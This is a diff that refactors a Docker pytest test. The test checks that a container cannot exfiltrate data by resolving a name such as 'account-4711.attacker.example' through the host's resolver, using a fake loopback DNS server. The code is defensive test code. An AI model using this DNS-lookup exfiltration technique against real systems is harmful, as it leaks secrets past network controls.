@@ -1,9 +1,11 @@
-"""A container sends data out as names that it asks for: the daemon would hand them on to the host's resolvers."""
+"""Attack: a container sends data out in the names that it resolves.
+
+The Docker daemon would forward such questions to the resolvers of the host.
+"""
 
 import contextlib
 import socket
 import threading
-from collections.abc import Iterator
 
 import docker
 import pytest
@@ -13,101 +15,107 @@ from tests.contracts.engine_acts import WAITS, Act, ended, launched, said
 from tests.contracts.harnesses import DockerHarness
 from tests.services.own_docker import BASE, OwnDocker, enter
 
-ASKS = """
+NETWORK = "bfia-dns"
+SECRET_NAME = "account-4711.attacker.example"
+OTHER_NAME = "other.attacker.example"
+# Prints the address of a name. Names of ".example" have no resolver: one short attempt is enough.
+RESOLVE = """
 import os, socket
-if {name!r}.endswith(".example"):
-    os.environ["RES_OPTIONS"] = "timeout:1 attempts:1"  # nobody is to answer
+name = {name!r}
+if name.endswith(".example"):
+    os.environ["RES_OPTIONS"] = "timeout:1 attempts:1"
 try:
-    print(socket.getaddrinfo({name!r}, 80)[0][4][0])
+    print(socket.getaddrinfo(name, 80)[0][4][0])
 except OSError as error:
     print("no answer")
 """
-SECRET = "account-4711.attacker.example"
+NO_SUCH_NAME = b"\x81\x83"  # flags of a DNS response: NXDOMAIN
 
 
-def asks(name: str) -> Act:
-    return Act(("python3", "-c", ASKS.format(name=name)))
+def resolve_command(name):
+    return ("python3", "-c", RESOLVE.format(name=name))
 
 
-class WithResolver(OwnDocker):
-    """A daemon whose host has a resolver on its loopback, as most have: `heard` is what that was asked."""
+class DockerWithResolver(OwnDocker):
+    """A daemon whose host has a resolver on its loopback, as most hosts have."""
 
-    def __init__(self) -> None:
+    def __init__(self):
         super().__init__()
-        self.heard: list[bytes] = []
-        self.configured = self.home / "resolv.conf"
-        self.configured.write_text("nameserver 127.0.0.1\n")
-        self._resolver: socket.socket
-        opened = threading.Event()
-        thread = threading.Thread(
-            target=self._listen,
-            args=(opened,),
-            daemon=True,
-        )
-        thread.start()
-        assert opened.wait(30)
+        self.questions = []  # received by the resolver
+        self.configuration = self.home / "resolv.conf"
+        self.configuration.write_text("nameserver 127.0.0.1\n")
+        self._resolver = None
+        is_open = threading.Event()
+        threading.Thread(target=self._serve, args=(is_open,), daemon=True).start()
+        assert is_open.wait(30)
 
     @property
-    def inside(self) -> list[str]:
-        own_file = 'mount --bind "$0" /etc/resolv.conf && exec "$@"'
-        return [*super().inside, "unshare", "--mount", "sh", "-c", own_file, str(self.configured)]
+    def inside(self):
+        mount = 'mount --bind "$0" /etc/resolv.conf && exec "$@"'
+        configuration = str(self.configuration)
+        return [*super().inside, "unshare", "--mount", "sh", "-c", mount, configuration]
 
-    def close(self) -> None:
+    def close(self):
         super().close()
         self._resolver.close()
 
-    def _listen(self, opened: threading.Event) -> None:
+    def _serve(self, is_open):
         enter(self.name)
         self._resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         self._resolver.bind(("127.0.0.1", 53))
-        opened.set()
-        with contextlib.suppress(OSError):
+        is_open.set()
+        with contextlib.suppress(OSError):  # closed
             while True:
                 question, sender = self._resolver.recvfrom(4096)
-                self.heard.append(question)
-                self._resolver.sendto(
-                    question[:2] + b"\x81\x83" + question[4:], sender
-                )  # there is no such name
+                self.questions.append(question)
+                response = question[:2] + NO_SUCH_NAME + question[4:]
+                self._resolver.sendto(response, sender)
+
+    def has_been_asked(self, name):
+        """Return whether the resolver received a question about a name, by its first label."""
+        label = name.partition(".")[0].encode()
+        return any(label in question for question in self.questions)
 
 
 @pytest.fixture
-def own() -> Iterator[WithResolver]:
-    with contextlib.closing(WithResolver()) as daemon:
+def own_docker():
+    with contextlib.closing(DockerWithResolver()) as daemon:
         daemon.start()
         daemon.load(BASE)
         yield daemon
 
 
-def label(name: str) -> bytes:
-    return name.partition(".")[0].encode()
+@pytest.fixture
+def client(own_docker):
+    """Give a client of the daemon."""
+    with contextlib.closing(docker.DockerClient(own_docker.url)) as client:
+        yield client
 
 
 @pytest.mark.docker
 @pytest.mark.own_docker
 @pytest.mark.slow
-def test_no_question_of_a_container_reaches_the_hosts_resolver(own: WithResolver) -> None:
-    """Names of its own network are answered: where the gateway is a container, its listener has such a name."""
-    harness = DockerHarness("bfia-dns")
-    engine = harness.engine(base_url=own.url)
-    there = launched(harness, engine, WAITS)
-    said(engine, there.name, b"ready")
-    answers = {}
-    for name in (there.name, SECRET):
-        spec = launched(harness, engine, asks(name))
+def test_no_question_of_a_container_reaches_the_hosts_resolver(own_docker, client):
+    """Names of its own network have an address: a gateway in a container needs that."""
+    harness = DockerHarness(NETWORK)
+    engine = harness.engine(base_url=own_docker.url)
+    neighbour = launched(harness, engine, WAITS).name
+    said(engine, neighbour, b"ready")
+
+    def resolve_in_container(name):
+        spec = launched(harness, engine, Act(resolve_command(name)))
         ended(engine, spec.name)
-        answers[name] = engine.logs(spec.name).stdout.decode().strip()
-    with contextlib.closing(docker.DockerClient(own.url)) as client:
-        found = client.api.inspect_container(there.name)
-        assert found["HostConfig"]["Dns"] == [DEAD_RESOLVER]
-        address = found["NetworkSettings"]["Networks"]["bfia-dns"]["IPAddress"]
-        assert answers == {there.name: address, SECRET: "no answer"}
-        assert not [question for question in own.heard if label(SECRET) in question]
-        client.containers.run(  # the way is there for any other container
-            BASE,
-            ["python3", "-c", ASKS.format(name="other.attacker.example")],
-            network="bfia-dns",
-            remove=True,
-        )
-    assert [question for question in own.heard if b"other" in question]
-    engine.remove(there.name)
+        return engine.logs(spec.name).stdout.decode().strip()
+
+    container = client.api.inspect_container(neighbour)
+    assert container["HostConfig"]["Dns"] == [DEAD_RESOLVER]
+    address = container["NetworkSettings"]["Networks"][NETWORK]["IPAddress"]
+    assert resolve_in_container(neighbour) == address
+    assert resolve_in_container(SECRET_NAME) == "no answer"
+    assert not own_docker.has_been_asked(SECRET_NAME)
+
+    # Any other container does reach the resolver.
+    client.containers.run(BASE, list(resolve_command(OTHER_NAME)), network=NETWORK, remove=True)
+    assert own_docker.has_been_asked(OTHER_NAME)
+    engine.remove(neighbour)
     engine.close()
